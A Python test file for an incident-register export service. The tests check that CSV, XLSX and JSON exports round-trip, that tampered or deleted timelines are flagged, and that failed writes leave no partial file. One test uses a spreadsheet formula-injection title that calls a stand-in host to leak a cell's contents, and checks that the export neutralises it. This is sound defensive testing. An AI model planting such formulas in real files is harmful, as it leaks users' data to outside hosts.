"""The exports read back whole: every row and field, real dates in XLSX, every timeline event."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from bot.domain.register import NOT_APPLICABLE_TEXT, NOT_YET_KNOWN
from bot.domain.register_columns import COLUMNS, TIMELINE_COLUMNS, columns_in_use
from bot.services import register_export
from bot.services.register import Register, load_register
from bot.services.register_export import ExportProblem, as_text, export_register
from bot.store.session import Database
from tests.register.helpers import NOW, seed_all_kinds
from tests.services.test_keyed_tampering import delete_incident


def loaded(database: Database) -> Register:
    seed_all_kinds(database)
    with database.unit_of_work() as session:
        return load_register(session, now=NOW)


def test_csv_round_trip_has_every_row_and_field_in_readable_words(database: Database, tmp_path: Path) -> None:
    register = loaded(database)
    path = export_register(register, "csv", tmp_path / "register.csv")
    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[0] == [c.heading for c in columns_in_use(register.entries)]
    assert len(rows) == 1 + len(register.entries)
    for row, entry in zip(rows[1:], register.entries, strict=True):
        assert row == [as_text(entry[c.key], c.kind) for c in columns_in_use(register.entries)]
        assert "" not in row
        assert all(
            cell == NOT_YET_KNOWN
            for cell, c in zip(row, columns_in_use(register.entries), strict=True)
            if entry[c.key] is None
        )
    read = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    near_miss = next(r for r in read if r["Near miss"] == "yes")
    assert (
        near_miss["Decision in force"] == NOT_APPLICABLE_TEXT and near_miss["Severity (ENISA)"] == NOT_APPLICABLE_TEXT
    )
    assert near_miss["Reported to the ICO (UTC)"] == NOT_APPLICABLE_TEXT
    notified = next(r for r in read if r["ICO case reference"] == "IC-123456-A1B2")
    assert notified["Reported to the ICO (UTC)"] == "2026-11-23 11:00:00"
    assert datetime.fromisoformat(notified["When we became aware (UTC)"]) == datetime(2026, 11, 23, 10, 0)
    assert "Add recipient checks" in notified["Remedial action planned"]


def test_xlsx_round_trip_with_real_dates_and_the_whole_timeline(database: Database, tmp_path: Path) -> None:
    register = loaded(database)
    path = export_register(register, "xlsx", tmp_path / "register.xlsx")
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Register", "Read me", "Timeline", "Timeline integrity"]
    assert workbook.active.title == "Register"
    # One selected tab: two would open grouped in Excel, and an edit to one would be made to both.
    assert [sheet.title for sheet in workbook.worksheets if sheet.sheet_view.tabSelected] == ["Register"]
    rows = list(workbook["Register"].iter_rows(values_only=True))
    assert list(rows[0]) == [c.heading for c in columns_in_use(register.entries)]
    assert len(rows) == 1 + len(register.entries)
    kinds = {c.heading: c.kind for c in COLUMNS}
    for row, entry in zip(rows[1:], register.entries, strict=True):
        record = dict(zip(rows[0], row, strict=True))
        assert None not in row
        assert record["Reference"] == entry["ref"]
        assert isinstance(record["When we became aware (UTC)"], datetime)
        assert record["When we became aware (UTC)"] == entry["aware_at"].replace(tzinfo=None)
        for heading, value in record.items():
            if kinds[heading] not in ("datetime", "number"):
                assert isinstance(value, str) and value
    aware_column = [c.key for c in columns_in_use(register.entries)].index("aware_at") + 1
    aware_cell = workbook["Register"].cell(row=2, column=aware_column)
    assert aware_cell.is_date and aware_cell.number_format == "dd/mm/yyyy hh:mm"
    events = list(workbook["Timeline"].iter_rows(values_only=True))
    assert list(events[0]) == [c.heading for c in TIMELINE_COLUMNS]
    assert len(events) - 1 == len(register.timeline) == sum(e["timeline_events"] for e in register.entries)
    assert all(isinstance(e[2], datetime) for e in events[1:])
    assert {e[0] for e in events[1:]} == {e["ref"] for e in register.entries}


def test_json_uses_keys_iso_times_null_for_unknown_and_words_for_not_applicable(
    database: Database, tmp_path: Path
) -> None:
    register = loaded(database)
    document = json.loads(export_register(register, "json", tmp_path / "r.json").read_text("utf-8"))
    assert [c["key"] for c in document["columns"]] == [c.key for c in COLUMNS]
    assert len(document["incidents"]) == 5 and len(document["timeline"]) == len(register.timeline)
    near_miss = next(i for i in document["incidents"] if i["near_miss"])
    assert near_miss["decision"] == near_miss["ico_reported_at"] == "not applicable"
    assert near_miss["occurred_at"] is None  # not yet known
    assert document["values"]["null"].startswith("not yet known")
    late = next(i for i in document["incidents"] if i["late"] is True)
    assert late["hours_late"] == 18.0 and late["aware_at"] == "2026-11-19T08:00:00+00:00"
    assert document["all_chains_verified"] is True


def test_a_tampered_timeline_is_recorded_as_unverified(database: Database, tmp_path: Path) -> None:
    seed_all_kinds(database)
    with database.engine.begin() as connection:
        connection.execute(text("UPDATE timeline_event SET summary = 'nothing happened' WHERE id = 1"))
        first_ref = connection.execute(text("SELECT ref FROM incident ORDER BY id LIMIT 1")).scalar_one()
    with database.unit_of_work() as session:
        register = load_register(session, now=NOW)
    verified = {e["ref"]: e["chain_verified"] for e in register.entries}
    assert verified.pop(first_ref) is False and all(verified.values())
    document = json.loads(export_register(register, "json", tmp_path / "r.json").read_text("utf-8"))
    assert document["all_chains_verified"] is False
    rows = list(load_workbook(export_register(register, "xlsx", tmp_path / "r.xlsx"))["Register"].values)
    column = [c.key for c in columns_in_use(register.entries)].index("chain_verified")
    assert rows[1][column] == "no"


def test_a_deleted_incident_is_named_in_every_export_of_the_whole_register(database: Database, tmp_path: Path) -> None:
    """A deleted incident leaves no row to fail its own check: the register's seal names it instead."""
    seed_all_kinds(database)
    with database.engine.begin() as connection:
        ref = connection.execute(text("SELECT ref FROM incident ORDER BY id DESC LIMIT 1")).scalar_one()
    delete_incident(database, ref)
    with database.unit_of_work() as session:
        register = load_register(session, now=NOW)
        since = load_register(session, now=NOW, since=datetime(2000, 1, 1, tzinfo=UTC))
    assert register.register_checked and register.failed == [ref] and not register.all_verified
    assert all(e["chain_verified"] for e in register.entries)  # every incident still there verifies
    [row] = [r for r in register.integrity if r["ref"] == ref]
    assert row["timeline_events"] == 0 and "deleted" in row["problem"]
    document = json.loads(export_register(register, "json", tmp_path / "r.json").read_text("utf-8"))
    assert document["all_chains_verified"] is False and document["register_checked"] is True
    workbook = load_workbook(export_register(register, "xlsx", tmp_path / "r.xlsx"))
    notes = [row[0] for row in workbook["Read me"].iter_rows(values_only=True) if row[0]]
    assert any(n.startswith("WARNING: the integrity check FAILED for 1 record(s): " + ref) for n in notes)
    integrity = {row[0]: row for row in workbook["Timeline integrity"].iter_rows(min_row=2, values_only=True)}
    assert integrity[ref][2] == "no" and "deleted" in integrity[ref][3]
    # A filtered register holds only some incidents, so it cannot make the check, and says so.
    assert not since.register_checked and since.all_verified
    workbook = load_workbook(export_register(since, "xlsx", tmp_path / "since.xlsx"))
    notes = [row[0] for row in workbook["Read me"].iter_rows(values_only=True) if row[0]]
    assert any("checked only in an export of the whole register" in n for n in notes)


def test_work_committed_while_the_register_loads_is_no_false_alarm(
    database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On PostgreSQL each statement could see newer rows: an incident opened, or an action recorded, while a
    large register loads would look deleted or rolled back to the register-wide check. The load reads one
    snapshot instead; what was committed meanwhile is in the next export."""
    if database.dialect == "sqlite":
        pytest.skip("SQLite's load holds the write lock (BEGIN IMMEDIATE): no other writer can commit meanwhile")
    from bot.services import register as register_service
    from tests.register.helpers import act, open_incident

    first = open_incident(database, "First")
    open_incident(database, "Second")
    read_first_triage = register_service._first_triaged
    opened: list[str] = []

    def meanwhile(session: Any, ids: Any) -> Any:
        # Between the load's first queries and its last: another session commits two changes.
        act(database, first, "Recipient asked to delete the email")
        opened.append(open_incident(database, "Opened while the register was loading"))
        return read_first_triage(session, ids)

    monkeypatch.setattr(register_service, "_first_triaged", meanwhile)
    with database.unit_of_work() as session:
        during = load_register(session, now=NOW)
    monkeypatch.undo()
    assert during.register_checked and during.failed == [] and len(during.entries) == 2
    with database.unit_of_work() as session:
        after = load_register(session, now=NOW)
    assert after.failed == [] and opened[0] in {e["ref"] for e in after.entries}


def test_a_failed_write_leaves_no_partial_file(
    database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    register = loaded(database)
    with pytest.raises(ExportProblem, match="cannot write"):
        export_register(register, "csv", tmp_path / "missing-dir" / "r.csv")
    with pytest.raises(ExportProblem, match="unknown format"):
        export_register(register, "pdf", tmp_path / "r.pdf")
    exports = tmp_path / "exports"
    exports.mkdir()

    def half_then_fail(_register: Register, path: Path) -> None:
        path.write_text("Reference,Ti")
        raise OSError(28, "No space left on device")

    monkeypatch.setitem(register_export._WRITERS, "csv", half_then_fail)
    with pytest.raises(ExportProblem, match="No space left"):
        export_register(register, "csv", exports / "r.csv")
    assert list(exports.iterdir()) == []


def test_a_title_that_looks_like_a_formula_stays_text(database: Database, tmp_path: Path) -> None:
    from tests.register.helpers import open_incident

    hostile = '=HYPERLINK("http://x.example/?"&F2,"open")'
    open_incident(database, hostile)
    with database.unit_of_work() as session:
        register = load_register(session, now=NOW)
    xlsx = export_register(register, "xlsx", tmp_path / "register.xlsx")
    sheet = load_workbook(xlsx)["Register"]
    title_column = [c.key for c in columns_in_use(register.entries)].index("title") + 1
    cell = sheet.cell(row=2, column=title_column)
    assert cell.data_type == "s" and cell.value == hostile
    csv_path = export_register(register, "csv", tmp_path / "register.csv")
    with csv_path.open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    heading = next(c.heading for c in COLUMNS if c.key == "title")
    assert rows[0][heading] == "'" + hostile
